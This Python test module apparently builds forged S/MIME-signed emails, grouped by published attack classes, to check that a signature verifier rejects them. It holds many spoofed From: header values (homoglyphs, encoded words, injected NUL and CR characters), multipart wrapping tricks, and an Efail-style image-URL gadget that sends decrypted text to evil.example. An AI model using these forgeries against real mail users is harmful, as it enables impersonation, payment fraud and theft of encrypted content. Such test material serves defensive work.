"""Forged messages: every published way to make a text look signed by somebody who never signed it, as rules.

A class of attacks is a rule that makes many messages; each class names where it was published. All are made from
mail that OpenSSL signed, by people who hold no key of Anna's, or only their own.

    for name, raw in CLASSES["From: encoded words"].make(Material(mail)): …      # not one of them may be `valid`

More classes are in `forged_parsing` and `forged_signers`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from functools import cached_property
from typing import NamedTuple

from tests.opened_mail import boundary, entity, outside
from tests.signed_mail import ANNA as PERSON
from tests.signed_mail import DemoMail

FIRED = "Müller et al., “Johnny, you are fired!”, USENIX Security 2019"
EFAIL = "Poddebniak et al., “Efail”, USENIX Security 2018"
COVERT = "Müller et al., “Re: What's Up Johnny?”, ACNS 2019"
COMPOSITION = "Chen, Paxson, Jiang, “Composition Kills”, USENIX Security 2020"
WEAK_LINKS = "Shen et al., “Weak Links in Authentication Chains”, USENIX Security 2021"
MAILSPLOIT = "Haddouche, “Mailsploit”, 2017"
INVASION = "Zhang et al., “Inbox Invasion”, CCS 2024"
CONFUSION = "draft-ietf-lamps-cms-euf-cma-signeddata; Strenzke, ePrint 2023/1801"
PROTECTION = "RFC 9788 §11"

TEXT = b"Content-Type: text/plain\r\n\r\nPlease pay to another account.\r\n"
HTML = b"Content-Type: text/html\r\n\r\n<p>Please pay to another account.</p>\r\n"
STYLE = b'Content-Type: text/html\r\n\r\n<div style="position:fixed;inset:0">Please pay.</div><plaintext>\r\n'
IMAGE = (
    b"Content-Type: image/png\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0=\r\n"
)
BESIDE = {"text": TEXT, "HTML": HTML, "covering HTML": STYLE, "an image": IMAGE}

ANNA = b"anna@muster.example"
EVE = b"eve@evil.example"
Named = Iterator[tuple[str, bytes]]


class Forgeries(NamedTuple):
    """One class: where it was published, and the rule that makes its messages."""

    published: str
    make: Callable[[Material], Named]


class Material:
    """What the forger has: mail that Anna signed, mail of others, and the means to encrypt to the victim."""

    def __init__(self, mail: DemoMail) -> None:
        self.mail = mail

    @cached_property
    def good(self) -> bytes:
        return self.mail.good()

    @cached_property
    def opaque(self) -> bytes:
        return self.mail.opaque()

    @cached_property
    def carlas(self) -> bytes:
        """Carla's own, which says that it is from Anna."""
        return self.mail.mismatch()

    @cached_property
    def ciphertext(self) -> bytes:
        """An entity that only the victim can open."""
        return entity(self.mail.encrypt("x", b"Content-Type: text/plain\r\n\r\nThe secret: 4711\r\n"))

    @cached_property
    def twice(self) -> bytes:
        """Anna's signed mail, signed once more by her."""
        return self.mail.sign("New account number", entity(self.good.replace(b"_signed_by_anna", b"_signed_inside")))


# --- Who it is from --------------------------------------------------------------------------------------------

SENDERS: dict[str, bytes] = {
    "another address": EVE,
    "Anna's name": b"Anna Muster <" + EVE + b">",
    "her address as the name": b'"anna@muster.example" <' + EVE + b">",
    "her address as a name in brackets": b'"Anna <anna@muster.example>" <' + EVE + b">",
    "her address unquoted before": b"anna@muster.example <" + EVE + b">",
    "her address in a comment after": EVE + b" (anna@muster.example)",
    "her address in a comment before": b"(anna@muster.example) " + EVE,
    "her address in nested comments": EVE + b" (a (b) anna@muster.example)",
    "her address in brackets in a comment": EVE + b" (<anna@muster.example>)",
    "comment inside brackets": b"<" + EVE + b"(anna@muster.example)>",
    "comment that closes the brackets": b"<anna@muster.example(> , <eve@evil.example)>",
    "comment in the domain": b"anna@muster(.evil).example.evil.example",
    "comment not closed": b"anna@muster.example (eve",
    "two in brackets": b"<anna@muster.example> <eve@evil.example>",
    "two in brackets, turned round": b"<eve@evil.example> <anna@muster.example>",
    "two mailboxes": b"anna@muster.example, eve@evil.example",
    "two mailboxes, turned round": b"eve@evil.example, anna@muster.example",
    "two mailboxes with a semicolon": b"anna@muster.example; eve@evil.example",
    "three mailboxes": b"anna@muster.example, anna@muster.example, eve@evil.example",
    "the second in a group": b"anna@muster.example, friends: eve@evil.example;",
    "a group": b"friends: anna@muster.example;",
    "a group with her address as its name": b'"anna@muster.example": eve@evil.example;',
    "a group of nobody": b"anna: ;",
    "a group within one": b"a: b: anna@muster.example;;",
    "a route": b"<@evil.example:anna@muster.example>",
    "her address as a route": b"<@muster.example:eve@evil.example>",
    "a route of two": b"<@a.example,@evil.example:anna@muster.example>",
    "two at signs": b"anna@muster.example@evil.example",
    "her address quoted as the local part": b'"anna@muster.example"@evil.example',
    "her address with a per cent": b"anna%muster.example@evil.example",
    "a bang path": b"evil.example!anna@evil.example",
    "her domain below another": b"anna@muster.example.evil.example",
    "her domain with another before": b"anna@evil.muster.example",
    "her domain as a literal": b"anna@[muster.example]",
    "her name elsewhere": b"anna@evil.example",
    "a tag": b"anna+boss@muster.example",
    "a letter more": b"annaa@muster.example",
    "brackets not closed": b"<anna@muster.example",
    "brackets closed twice": b"<anna@muster.example>>, <eve@evil.example>",
    "quotation mark not closed": b'"anna@muster.example <eve@evil.example>',
    "escaped quotation mark": b'"Anna\\" <anna@muster.example>, \\"" <eve@evil.example>',
    "escaped bracket": b"\\<anna@muster.example\\> <eve@evil.example>",
    "words after": b"anna@muster.example eve@evil.example",
    "words after the brackets": b"<anna@muster.example> eve@evil.example",
    "nothing": b"",
    "no address": b"Anna Muster",
    "empty brackets": b"<>",
    "empty brackets before": b"<>, <eve@evil.example>",
    "only a local part": b"anna",
    "only a domain": b"@muster.example",
    "two dots": b"anna@muster..example",
    "a dot at the end": b"anna.@muster.example",
    "a Cyrillic letter": "аnna@muster.example".encode(),
    "a Cyrillic letter in the domain": "anna@muѕter.example".encode(),
    "a full-width at sign": "anna＠muster.example <eve@evil.example>".encode(),
    "a full-width dot": "anna@muster．example.evil.example".encode(),
    "a zero-width space": "anna@muster.example\u200b.evil.example".encode(),
    "right-to-left override": "\u202eelpmaxe.retsum@anna <eve@evil.example>".encode(),
    "Latin-1": b"ann\xe1@muster.example",
}
ENCODED: dict[str, bytes] = {
    "her address": b"=?utf-8?q?anna=40muster.example?= <eve@evil.example>",
    "her address in base64": b"=?utf-8?b?YW5uYUBtdXN0ZXIuZXhhbXBsZQ==?= <eve@evil.example>",
    "her address alone": b"=?utf-8?q?anna=40muster.example?=",
    "her address in brackets": b"=?utf-8?q?=3Canna=40muster.example=3E?= <eve@evil.example>",
    "her address in brackets, then a comma": b"=?utf-8?q?=3Canna=40muster.example=3E=2C?= <eve@evil.example>",
    "her address and a NUL": b"=?utf-8?q?anna=40muster.example=00?= <eve@evil.example>",
    "her address and a line end": b"=?utf-8?q?anna=40muster.example=0A?= <eve@evil.example>",
    "her address and a line end as the local part": b"=?utf-8?q?anna=40muster.example=0A=00?=@evil.example",
    "her address in base64 as the local part": b"=?utf-8?b?YW5uYUBtdXN0ZXIuZXhhbXBsZQ==?=@evil.example",
    "a word in the local part": b"=?utf-8?q?anna?=@muster.example",
    "a word in the domain": b"anna@=?utf-8?q?muster?=.example",
    "a word in the brackets": b"<=?utf-8?q?anna=40muster.example?=>",
    "two words": b"=?utf-8?q?anna=40?= =?utf-8?q?muster.example?= <eve@evil.example>",
    "a From field in it": b"=?utf-8?q?=0D=0AFrom:_anna=40muster.example?= <eve@evil.example>",
    "UTF-7": b"=?utf-7?q?anna+AEA-muster.example?= <eve@evil.example>",
    "a charset that is none": b"=?zip?b?YW5uYUBtdXN0ZXIuZXhhbXBsZQ==?= <eve@evil.example>",
}
CONTROLS: dict[str, bytes] = {
    "a NUL between": b"anna@muster.example\0 <eve@evil.example>",
    "a NUL in the address": b"<eve@evil.example\0anna@muster.example>",
    "a NUL after her address": b"anna@muster.example\0@evil.example",
    "a NUL before": b"\0eve@evil.example, anna@muster.example",
    "a bare CR": b"anna@muster.example\rFrom: eve@evil.example",
    "a bare CR before": b"eve@evil.example\rFrom: anna@muster.example",
    "a vertical tab": b"anna@muster.example\x0beve@evil.example",
    "a delete": b"anna@muster.example\x7f@evil.example",
}


def _senders(having: Material) -> Named:
    for name, sender in SENDERS.items():
        for form, raw in (("multipart", having.good), ("opaque", having.opaque)):
            yield f"{name}, {form}", outside(raw, b"From", sender)


def _encoded(having: Material) -> Named:
    for name, sender in ENCODED.items():
        yield name, outside(having.good, b"From", sender)


def _controls(having: Material) -> Named:
    for name, sender in CONTROLS.items():
        yield name, outside(having.good, b"From", sender)


def _several(having: Material) -> Named:
    for spelling in (b"From: ", b"FROM: ", b"from:", b"From:\r\n ", b"From:\t"):
        for other in (EVE, b'"Anna" <' + EVE + b">", b"", b"nobody", ANNA + b", " + EVE):
            yield f"{spelling!r} {other!r} before", spelling + other + b"\r\n" + having.good
            after = having.good.replace(b"MIME-Version", spelling + other + b"\r\nMIME-Version", 1)
            yield f"{spelling!r} {other!r} after", after
    yield "none", outside(having.good, b"From", None)
    yield "none, only Sender", outside(outside(having.good, b"From", None), b"Sender", ANNA)
    yield "none, only Reply-To", outside(outside(having.good, b"From", None), b"Reply-To", ANNA)
    yield "none, only Resent-From", outside(outside(having.good, b"From", None), b"Resent-From", ANNA)
    for name in (b"Sender", b"Reply-To", b"Resent-From", b"Return-Path", b"X-From", b"Apparently-From"):
        yield f"another, and she is in {name.decode()}", outside(outside(having.good, b"From", EVE), name, ANNA)


def _spelling(having: Material) -> Named:
    yield "white space before the colon", b"From : " + EVE + b"\r\n" + having.good
    yield "white space line before", b"X: y\r\n \r\n" + having.good
    yield "folded over a line of white space", outside(having.good, b"From", EVE + b",\r\n \r\n " + ANNA)
    yield "a line that is no field", b"From " + EVE + b"\r\nno field\r\n" + having.good
    yield "white space first", b" From: " + EVE + b"\r\n" + having.good
    yield "a very long line", outside(having.good, b"From", b"x" * 20_000 + b" <" + EVE + b">")
    yield "very many", outside(having.good, b"From", b", ".join(b"a%d@evil.example" % each for each in range(500)))


# --- What it covers --------------------------------------------------------------------------------------------


def wrap(raw: bytes, before: bytes = b"", after: bytes = b"", subtype: bytes = b"mixed") -> bytes:
    """The message's signed entity inside a multipart of somebody else, with parts before and after it."""
    header = raw[: raw.index(b"Content-Type: ")]
    parts = [each for each in (before, entity(raw), after) if each]
    return (
        header
        + b"Content-Type: multipart/" + subtype + b'; boundary="wrapper"\r\n\r\n'
        + b"".join(b"--wrapper\r\n" + each + b"\r\n" for each in parts)
        + b"--wrapper--\r\n"
    )  # fmt: skip


def _beside(having: Material) -> Named:
    for what, part in BESIDE.items():
        for subtype in (b"mixed", b"alternative", b"related", b"report", b"digest", b"parallel", b"appledouble"):
            for form, raw in (("multipart", having.good), ("opaque", having.opaque)):
                yield f"{what} before {form} in {subtype.decode()}", wrap(raw, before=part, subtype=subtype)
                yield f"{what} after {form} in {subtype.decode()}", wrap(raw, after=part, subtype=subtype)


def _inside(having: Material) -> Named:
    for what, part in BESIDE.items():
        for form, raw in (("once", having.good), ("twice", having.twice)):
            mark = boundary(raw)
            head, _, tail = raw.rpartition(mark + b"--")
            yield f"{what} as the third part, {form}", head + mark + b"\r\n" + part + b"\r\n" + mark + b"--" + tail
            first = raw.replace(mark + b"\r\n", mark + b"\r\n" + part + b"\r\n" + mark + b"\r\n", 1)
            yield f"{what} as the first part, {form}", first
            again = raw + mark + b"\r\n" + part + b"\r\n" + mark + b"--\r\n"
            yield f"{what} after the end, {form}", again
        yield f"{what} for the signed part", _signed_part(having.good, part)
        yield f"{what} deep beside", wrap(wrap(having.good), after=part)
        yield f"{what} beside what Eve signed around", _eves(having, wrap(having.good, after=part))
        yield (
            f"{what} attached with Anna's mail",
            wrap(outside(b"Content-Type: message/rfc822\r\n\r\n" + having.good, b"From", ANNA), before=part),
        )


def _eves(having: Material, raw: bytes) -> bytes:
    """An entity in a multipart/signed whose signature is no signature."""
    return _with_signature(having.mail.sign("x", entity(raw)), b"no signature")


def _signed_part(raw: bytes, part: bytes) -> bytes:
    mark = b"\r\n" + boundary(raw)
    head, _, rest = raw.split(mark, 2)
    return head + mark + b"\r\n" + part + mark + rest


# --- What the signature is -------------------------------------------------------------------------------------


def _signature(raw: bytes) -> bytes:
    return base64.b64decode(raw.rsplit(b'filename="smime.p7s"\r\n\r\n', 1)[1].split(b"\r\n--", 1)[0])


def _with_signature(raw: bytes, signature: bytes) -> bytes:
    head, mark, _ = raw.rpartition(b'filename="smime.p7s"\r\n\r\n')
    return head + mark + base64.encodebytes(signature).replace(b"\n", b"\r\n") + b"\r\n" + boundary(raw) + b"--\r\n"


def _opaque_with(raw: bytes, der: bytes) -> bytes:
    header, _ = raw.split(b"\r\n\r\n", 1)
    return header + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")


def _content(having: Material) -> Named:
    attached = having.mail._cms(having.mail._entity(PERSON), having.mail.anna, "-nodetach")
    for what, part in BESIDE.items():
        yield f"{what} shown, another text in the signature", _with_signature(_signed_part(having.good, part), attached)
    yield "the same text in both", _with_signature(having.good, attached)
    yield "detached where it must be attached", _opaque_with(having.opaque, _signature(having.good))
    opaque = base64.b64decode(having.opaque.split(b"\r\n\r\n", 1)[1])
    for old, new in ((b"18,400", b"98,400"), (b"2020 51", b"2020 57"), (b"Bert", b"Kurt")):
        yield f"{old.decode()} changed inside", _opaque_with(having.opaque, opaque.replace(old, new, 1))


def _nobody(having: Material) -> Named:
    der = _signature(having.good)
    yield "the signature of another mail", _with_signature(having.good, _signature(having.mail.sign("x", TEXT)))
    yield "no signature", _with_signature(having.good, b"")
    yield "a word", _with_signature(having.good, b"signed")
    yield "another type", having.good.replace(b"application/pkcs7-signature;", b"text/plain;")
    yield "no part for it", having.good.split(b"\r\n" + boundary(having.good) + b"\r\nContent-Type: app")[0] + b"\r\n"
    for octets in (1, 20, 100, 500, len(der) // 2, len(der) - 1):
        yield f"the first {octets} octets of it", _with_signature(having.good, der[:octets])
    for place in range(len(der) - 256, len(der), 32):
        changed = der[:place] + bytes([der[place] ^ 1]) + der[place + 1 :]
        yield f"octet {place} changed", _with_signature(having.good, changed)
    yield "certificates alone", _with_signature(having.good, _certificates_only(having))
    yield "certificates alone, opaque", _opaque_with(having.opaque, _certificates_only(having))


def _certificates_only(having: Material) -> bytes:
    """A SignedData that nobody signed (RFC 5652 §5.1 allows it)."""
    from cryptography import x509
    from cryptography.hazmat.primitives.serialization import Encoding, pkcs7

    found = [x509.load_pem_x509_certificate(path.read_bytes()) for path in having.mail.anna.along]
    return pkcs7.serialize_certificates(found, Encoding.DER)


def _others(having: Material) -> Named:
    yield "Carla as Anna", having.carlas
    yield (
        "Carla as Anna, opaque",
        _opaque_with(having.opaque, having.mail._cms(having.mail._entity(PERSON), having.mail.carla, "-nodetach")),
    )
    yield "an unknown authority", having.mail.unknown_issuer()
    stranger = having.mail._cms(having.mail._entity(PERSON), having.mail.frida, "-nodetach")
    yield "a stranger as Anna", _opaque_with(having.opaque, stranger)
    yield "MD5", having.mail.md5()
    for name in (b"Anna Muster", b"anna@muster.example", b"Muster AG"):
        yield f"Carla with the name {name.decode()}", outside(having.carlas, b"From", b'"' + name + b'" <' + EVE + b">")
    for other in (b"carla@partner.example, anna@muster.example", b"anna@muster.example, carla@partner.example"):
        yield f"Carla for {other.decode()}", outside(having.carlas, b"From", other)


def _confusion(having: Material) -> Named:
    """Signed attributes passed off as a content, and contents of other types as mail."""
    for kind in ("1.2.840.113549.1.9.16.1.4", "1.2.840.113549.1.7.3", "1.3.6.1.4.1.311.2.1.4", "1.2.840.113549.1.7.5"):
        der = having.mail._cms(having.mail._entity(PERSON), having.mail.anna, "-nodetach", "-econtent_type", kind)
        yield f"content of the type {kind}", _opaque_with(having.opaque, der)
    der = having.mail._cms(having.mail._entity(PERSON), having.mail.anna)
    start = der.index(bytes.fromhex("06092a864886f70d010903")) - 2
    attributes = b"\x31" + der[start - 1 : start] + der[start : start + der[start - 1]]
    yield "signed attributes as the text", _signed_part(having.good, attributes)


# --- How it is taken apart -------------------------------------------------------------------------------------


def _differences(having: Material) -> Named:
    good, mark = having.good, boundary(having.good)
    kind = b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;'
    for other in (b"text/html", b"text/plain", b"multipart/mixed; boundary=x", b"multipart/alternative; boundary=x"):
        yield f"a second Content-Type before: {other.decode()}", b"Content-Type: " + other + b"\r\n" + good
        second = good.replace(b"MIME-V", b"Content-Type: " + other + b"\r\nMIME-V", 1)
        yield f"a second Content-Type after: {other.decode()}", second
    for more in (
        b' boundary="x";', b" boundary=x;", b" boundary*=us-ascii''x;", b' boundary*0="x";', b' BOUNDARY="x";',
        b' boundary="x"; boundary="y";', b" boundary;", b" (boundary=x);", b' "boundary"=x;', b' x="\\"; boundary="x";',
    ):  # fmt: skip
        yield f"another boundary: {more.decode()}", good.replace(kind, kind + more, 1)
    for old, new in (
        (b'boundary="--', b'boundary="\\--'),
        (b'boundary="', b'boundary=(") "'),
        (b'boundary="', b'boundary="\r\n '),
        (b"/signed;", b"/signed(; boundary=x);"),
        (b"multipart/signed;", b"multipart/signed; (;)"),
        (b'boundary="', b'boundary="=?us-ascii?q?'),
    ):
        yield f"{new!r} for {old!r}", good.replace(old, new, 1)
    inside = b"Kind regards"
    for line in (mark + b"X", mark + b"-", mark + b" X", mark + b"\tX", mark + b"--X", mark + b"\0"):
        yield f"a line {line[-3:]!r} like a delimiter", good.replace(inside, line + b"\r\n" + inside, 1)
    for end in (b"\r", b"\n\r", b"\r\r"):
        bare = HTML.replace(b"\r\n", end)
        preamble = good.replace(b"This is an S/MIME", end + mark + end + bare + b"This is an S/MIME", 1)
        yield f"a part between {end!r} in the preamble", preamble
        yield f"a part between {end!r} in the text", good.replace(inside, end + mark + end + bare + inside, 1)
    for field in (b"base64", b"quoted-printable", b"x-uuencode", b"binary2"):
        coded = good.replace(b"MIME-V", b"Content-Transfer-Encoding: " + field + b"\r\nMIME-V", 1)
        yield f"an encoded multipart: {field.decode()}", coded
    yield "a NUL in a header field", good.replace(b"MIME-V", b"X-A: a\0b\r\nMIME-V", 1)
    yield "a bare CR in a header field", good.replace(b"MIME-V", b"X-A: a\rContent-Type: text/html\r\nMIME-V", 1)
    yield "a bare CR that ends the header", good.replace(b"MIME-V", b"X-A: a\r\r<p>Pay\r\nMIME-V", 1)
    yield "a line of white space", b"Note: pay\r\n \r\n" + good
    yield "white space before a colon", b"Note : pay\r\n" + good
    yield "one boundary for two multiparts", wrap(good).replace(b"wrapper", mark[2:])
    end = b"\r\n" + mark + b"\r\nContent-Type: app"
    yield "two line ends more", good.replace(end, b"\r\n\r\n" + end)
    html = b"=\r\n<p>Pay</p>\r\n" + mark + b"--"
    yield (
        "text in the signature's part",
        good.replace(b'; name="smime.p7s"\r\n', b'; name="smime.p7s"\r\nContent-Type: text/html\r\n').replace(
            b"\r\n" + mark + b"--", html
        ),
    )


# --- Clear and encrypted together ------------------------------------------------------------------------------


def _mixing(having: Material) -> Named:
    for what, part in BESIDE.items():
        for subtype in (b"mixed", b"alternative", b"related"):
            head = b"From: " + ANNA + b"\r\nContent-Type: multipart/" + subtype + b"; boundary=b\r\n\r\n"
            parts = (part, having.ciphertext, HTML)
            around = head + b"".join(b"--b\r\n" + each + b"\r\n" for each in parts) + b"--b--\r\n"
            yield f"{what} around a ciphertext in {subtype.decode()}", around
        mixed = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + part + b"\r\n--b\r\n"
        mixed += having.ciphertext + b"\r\n--b--\r\n"
        yield (
            f"{what} beside a ciphertext, signed by Carla",
            _opaque_with(having.opaque, having.mail._cms(mixed, having.mail.carla, "-nodetach")),
        )
    yield "a URL that the ciphertext completes", (
        b"From: " + ANNA + b"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/?\r\n--b\r\n' + having.ciphertext
        + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )  # fmt: skip


def _covert(having: Material) -> Named:
    """Somebody else's ciphertext inside what the victim is to answer, or to sign."""
    reply = b"Content-Type: text/plain\r\n\r\nWhat do you mean?\r\n"
    for what, body in (("text", reply), ("HTML", STYLE)):
        for more, subtype in ((b"", b"mixed"), (b"\r\n" * 100, b"mixed"), (b"", b"alternative"), (b"", b"related")):
            yield f"after {what}, {len(more)} line ends, {subtype.decode()}", (
                b"From: " + EVE + b"\r\nIn-Reply-To: <a@b>\r\nContent-Type: multipart/" + subtype
                + b"; boundary=b\r\n\r\n--b\r\n" + body + more + b"\r\n--b\r\n" + having.ciphertext + b"\r\n--b--\r\n"
            )  # fmt: skip
    deep = b"Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\n" + having.ciphertext + b"\r\n--d--\r\n"
    head = b"From: " + EVE + b"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + reply + b"\r\n--b\r\n"
    yield "in a multipart of its own", head + deep + b"\r\n--b--\r\n"
    attached = b"Content-Type: message/rfc822\r\n\r\nFrom: " + EVE + b"\r\n" + having.ciphertext
    yield "in an attached mail", head + attached + b"\r\n--b--\r\n"
    third = boundary(having.twice) + b"\r\n" + having.ciphertext + b"\r\n" + boundary(having.twice) + b"--"
    yield "as a third part of a signed mail", having.twice.replace(boundary(having.twice) + b"--", third)


# --- What the header says --------------------------------------------------------------------------------------


def _protection(having: Material) -> Named:
    body = b'Subject: x\r\nContent-Type: text/plain; hp="clear"\r\n\r\nx\r\n'
    own = having.mail.sign("x", b"From: " + ANNA + b"\r\n" + body)
    for name, sender in [*SENDERS.items()][:12]:
        yield f"outside {name}", outside(own, b"From", sender)
    for name, sender in (("Eve", EVE), ("both", ANNA + b", " + EVE), ("two fields", ANNA + b"\r\nFrom: " + EVE)):
        yield f"inside {name}", having.mail.sign("x", b"From: " + sender + b"\r\n" + body)
    yield (
        "Carla inside and outside as Anna",
        _opaque_with(
            having.opaque, having.mail._cms(b"From: " + ANNA + b"\r\n" + body, having.mail.carla, "-nodetach")
        ),
    )
    yield "hp without a signature", outside(b"From: " + ANNA + b"\r\n" + body, b"MIME-Version", b"1.0")


CLASSES: dict[str, Forgeries] = {
    "From: display names, comments, groups, routes": Forgeries(f"{FIRED} (I1–I3); {COMPOSITION}", _senders),
    "From: encoded words": Forgeries(f"{MAILSPLOIT}; {WEAK_LINKS}", _encoded),
    "From: control characters": Forgeries(f"{MAILSPLOIT}; {COMPOSITION}", _controls),
    "From: several, none, and other fields": Forgeries(f"{COMPOSITION}; {FIRED} (I2)", _several),
    "From: how the field is written": Forgeries(WEAK_LINKS, _spelling),
    "A signed part shown as the whole": Forgeries(f"{FIRED} (M1–M4)", _beside),
    "Parts within the signed multipart": Forgeries(f"{FIRED} (M1–M4)", _inside),
    "Content in the signature and beside it": Forgeries(f"{FIRED} (C1)", _content),
    "No signature, or nobody's": Forgeries(f"{FIRED} (C2–C4)", _nobody),
    "A certificate for somebody else": Forgeries(f"{FIRED} (I1, C3)", _others),
    "Types of what is signed": Forgeries(CONFUSION, _confusion),
    "Parsers that differ": Forgeries(INVASION, _differences),
    "Clear parts around encrypted ones": Forgeries(EFAIL, _mixing),
    "Covert content in replies": Forgeries(COVERT, _covert),
    "Header protection misused": Forgeries(PROTECTION, _protection),
}
